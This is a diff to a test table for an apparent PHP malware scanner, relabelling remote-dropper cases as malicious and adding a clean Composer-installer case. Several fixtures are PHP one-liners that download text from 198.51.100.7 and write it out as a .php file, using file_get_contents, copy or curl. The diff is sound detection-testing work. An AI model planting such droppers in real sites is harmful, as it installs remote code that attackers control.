@@ -175,11 +175,12 @@ file_put_contents('../config.php', "<?php\n\$db_host = '" . addslashes($_POST['h
 define('BASE', dirname(__FILE__));
 file_put_contents(BASE . '/post.log', $_POST['msg'], FILE_APPEND);`, 'not-malicious'],
 
-  // S27R-12: a PHP file written from a fixed remote address (clean before; a self-updater has the
-  // shape too, so suspicious: with any other sign, malicious)
-  [undefined, "S27R-12 (fixed here): flagged: file_put_contents(__DIR__ . '/x.php', file_get_contents('http://..'))", '/www/d.php', `<?php\nfile_put_contents(__DIR__ . '/wp-l10n.php', file_get_contents('http://198.51.100.7/s.txt'));`, 'flagged', 'mamori:remote-code-file'],
-  [undefined, "S27R-12 (fixed here): flagged: copy('http://..', 'x.php')", '/www/d.php', `<?php\ncopy('http://198.51.100.7/s.txt', __DIR__ . '/wp-l10n.php');`, 'flagged', 'mamori:remote-code-file'],
-  [undefined, 'S27R-12 (fixed here): flagged: curl_init of a URL, curl_exec into a variable, written under .php', '/www/d.php', `<?php\n$c = curl_init('http://198.51.100.7/s.txt'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($c);\nfile_put_contents('wp-l10n.php', $d);`, 'flagged', 'mamori:remote-code-file'],
+  // S27R-12: a PHP file written from a fixed remote address, malicious by mamori_php_remote_dropper
+  // with a literal name and file_get_contents or copy: the name built or curl was clean
+  [undefined, "S27R-12 (fixed here): file_put_contents(__DIR__ . '/x.php', file_get_contents('http://..'))", '/www/d.php', `<?php\nfile_put_contents(__DIR__ . '/wp-l10n.php', file_get_contents('http://198.51.100.7/s.txt'));`, 'malicious', 'mamori:remote-code-file'],
+  [undefined, "S27R-12 (fixed here): copy('http://..', 'x.php')", '/www/d.php', `<?php\ncopy('http://198.51.100.7/s.txt', __DIR__ . '/wp-l10n.php');`, 'malicious', 'mamori:remote-code-file'],
+  [undefined, 'S27R-12 (fixed here): curl_init of a URL, curl_exec into a variable, written under .php', '/www/d.php', `<?php\n$c = curl_init('http://198.51.100.7/s.txt'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($c);\nfile_put_contents('wp-l10n.php', $d);`, 'malicious', 'mamori:remote-code-file'],
+  [undefined, "holds: Composer's installer copied to composer-setup.php into a variable's name (S21R-12)", '/srv/app/bin/setup.php', `<?php\n$setup = __DIR__ . '/composer-setup.php';\ncopy('https://getcomposer.org/installer', $setup);\nif (hash_file('sha384', $setup) !== trim(file_get_contents('https://composer.github.io/installer.sig'))) { unlink($setup); }\n`, 'clean'],
   [undefined, 'not flagged: a remote JSON written to a cache .json, the file requiring config.php', '/www/lib/feed.php', `<?php\nrequire 'config.php';\nfile_put_contents(__DIR__ . '/cache/feed.json', file_get_contents('https://api.example.org/feed'));`, 'clean'],
 
   // S27R-5: the DefinePInvokeMethod branch asks for Marshal.Copy
